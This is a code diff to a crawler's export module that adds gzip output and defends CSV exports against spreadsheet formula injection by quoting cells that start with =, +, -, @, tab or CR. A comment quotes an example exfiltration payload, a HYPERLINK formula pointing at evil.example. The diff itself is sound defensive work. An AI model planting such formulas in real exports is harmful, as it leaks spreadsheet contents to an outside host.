@@ -2,19 +2,20 @@
 
 A file is written under a temporary name beside its target and renamed over it only when
 the export completes: an export stopped by a corrupt line must not leave a truncated file
-that looks like a finished one.
+that looks like a finished one. A file named ``*.gz`` is written gzipped.
 """
 
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 import os
 import sys
 from collections.abc import Iterable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
-from typing import IO, Any
+from typing import IO, Any, cast
 
 import msgspec
 
@@ -23,6 +24,12 @@ from crawler.export.filters import Row
 
 #: How list columns are joined into one CSV cell (and split again by a reader).
 LIST_SEPARATOR = "; "
+
+#: A text cell starting with one of these is taken by spreadsheets as a formula (``=``,
+#: ``+``, ``-``, ``@``) or has its leading tab or CR dropped before one: a crawled title
+#: ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run on opening. OWASP's "CSV
+#: Injection" advice: a leading single quote, which spreadsheets show as text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @contextmanager
@@ -50,10 +57,13 @@ def write_jsonl(rows: Iterable[Row], path: Path | None, *, shape: Shape = "recor
     return count
 
 
-def write_csv(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records") -> int:
+def write_csv(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records",
+              raw: bool = False) -> int:
     """Rows as UTF-8 CSV with a header row; ``None`` writes to stdout. Returns the count.
 
     Lists are joined with ``"; "``, nulls are empty cells, and story variants are JSON text.
+    A text cell a spreadsheet would run as a formula gets a leading ``'``
+    (:data:`FORMULA_STARTS`) unless ``raw``: for tools that read the CSV as data.
     """
     columns, flatten = layout(shape)
     count = 0
@@ -62,9 +72,17 @@ def write_csv(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records
         writer.writerow([column.name for column in columns])
         for row in rows:
             flat = flatten(row)
-            writer.writerow([_cell(column, flat[column.name]) for column in columns])
+            cells = [_cell(column, flat[column.name]) for column in columns]
+            writer.writerow(cells if raw else [_defused(cell) for cell in cells])
             count += 1
     return count
+
+
+def _defused(cell: Any) -> Any:
+    """``cell`` with a leading ``'`` if it is text a spreadsheet would read as a formula."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
+        return "'" + cell
+    return cell
 
 
 def _cell(column: Column, value: Any) -> Any:
@@ -96,4 +114,9 @@ def _binary_output(path: Path | None) -> Iterator[IO[bytes]]:
         sys.stdout.buffer.flush()
         return
     with atomic_path(path) as temporary, temporary.open("wb") as handle:
-        yield handle
+        if not path.name.lower().endswith(".gz"):
+            yield handle
+            return
+        # records.jsonl.gz: gzipped as its name says (mtime 0: the same rows, the same bytes).
+        with gzip.GzipFile(fileobj=handle, mode="wb", mtime=0) as packed:
+            yield cast("IO[bytes]", packed)  # a binary file in all but typeshed's name
